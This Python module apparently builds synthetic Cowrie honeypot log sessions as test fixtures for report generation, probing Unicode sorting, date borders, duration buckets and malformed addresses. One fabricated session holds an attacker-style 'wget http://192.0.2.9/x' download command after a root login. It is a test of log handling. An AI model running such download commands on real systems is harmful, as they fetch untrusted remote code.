"""Logs made to bring out what real ones may never hold."""

from collections.abc import Iterator
from datetime import UTC, datetime

from cowrie_assets_tests.reports.golden.evidence import Line, session_of

NOW = datetime(2027, 3, 1, tzinfo=UTC)
NAMES = [
    "b",
    "a",
    "B",
    "a\x00",
    "é",
    "\ud800",
    "\udfff",
    "\ue000",
    "\uffff",
    "😀",
    "\U00100000",
    "\U0010fffd",
    "\U0010ffff",
]
"""In no order. By UTF-16 the astral ones would come before U+E000; the database holds those of NUL and of lone
surrogates as characters of plane 16."""


def tied() -> Iterator[Line]:
    """Sessions in which each value is there as often as the others, from the first day to the third."""
    for number, name in enumerate(NAMES * 3):
        day = f"2026-08-{29 + number // len(NAMES)}"
        kinds = [
            {"eventid": "cowrie.client.version", "version": name},
            {"eventid": "cowrie.client.kex", "hassh": name},
            {"eventid": "cowrie.login.failed", "username": name, "password": name},
            {"eventid": "cowrie.login.success", "username": "root", "password": name},
            {"eventid": "cowrie.command.input", "input": name},
            {"eventid": "cowrie.session.file_download", "shasum": f"{number % 13:064x}", "url": f"http://x/{name}"},
        ]
        yield from session_of(day, number, kinds, src_ip=f"192.0.{number % 13}.1")


def one() -> Iterator[Line]:
    yield from session_of(
        "2026-08-31T12:00:00",
        1,
        [
            {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
            {"eventid": "cowrie.command.input", "input": "id"},
            {"eventid": "cowrie.command.input", "input": "wget http://192.0.2.9/x"},
            {"eventid": "cowrie.direct-tcpip.request", "dst_ip": "198.51.100.1", "dst_port": 25},
        ],
        protocol="telnet",
    )


def around_new_year() -> Iterator[Line]:
    """A session on each side of every border of ISO week 53 of 2026 and of the year."""
    for border in ("2026-12-28", "2027-01-01", "2027-01-04"):
        command = {"eventid": "cowrie.command.input", "input": f"echo {border}"}
        yield from session_of(border, 0, [command], sensor="after", session=f"{border}-after")
        yield from session_of(border, -1, [command], sensor="before", session=f"{border}-before")


def borders() -> Iterator[Line]:
    """Sessions on the borders of all that is put into classes, and what a log may hold besides."""
    day = "2026-08-31T06:00:00"
    for number, (commands, duration_ms) in enumerate(zip(_COMMANDS, _DURATIONS, strict=True), 1):
        kinds = [{"eventid": "cowrie.command.input", "input": f"echo {number}"}] * commands
        numbered = [{**kind, "message": f"{place}"} for place, kind in enumerate(kinds)]
        yield from session_of(day, number, numbered, duration_ms=duration_ms)
    for number, address in enumerate(_ADDRESSES, 100):
        protocol = ("ssh", "telnet", "rdp", None)[number % 4]
        yield from session_of(day, number, [], sensor="hp-2", src_ip=address, protocol=protocol)
    yield from session_of("2026-08-31T23:59:59", 200, _AT_ONCE, sensor="hp-2")
    yield from ("", "kernel: oops", '{"eventid": "cowrie.session.connect"}', "[]", "kernel: again")
    yield from session_of("2026-08-31T23:59:59", 200, _AT_ONCE, sensor="hp-2")
    yield {"eventid": "cowrie.log.open", "sensor": "hp-3", "timestamp": "2026-08-30T04:59:59.999999Z"}
    yield {"eventid": "cowrie.log.open", "sensor": "hp-3", "timestamp": "2026-09-02T17:00:00.000000Z"}


_COMMANDS = (0, 1, 2, 3, 5, 6, 10, 11, 20, 21, 50, 51, 100, 101, 200)
_DURATIONS = (
    *(0, 999, 1000, 4999, 5000, 9999, 10_000, 29_999, 30_000),
    *(59_999, 60_000, 299_999, 300_000, 1_799_999, 1_800_000),
)
_ADDRESSES = (
    *("2001:db8:1:2::1", "2001:db8:1:3::1", "2001:DB8:2::1", "fe80::1%eth0", "::ffff:192.0.2.9", "192.0.2.255"),
    *("192.0.3.0", "not an address", "300.1.1.1", None),
)
_AT_ONCE = [
    {"eventid": "cowrie.command.input", "input": command, "timestamp": "2026-09-01T00:00:01.000000Z"}
    for command in ("b", "a\0", "a\ud800", "a\uffff", "c", "a\uffff")
]
"""Commands of one microsecond, behind midnight; the last is the fourth again."""

MADE = {"tied": tied, "one": one, "around_new_year": around_new_year, "borders": borders}
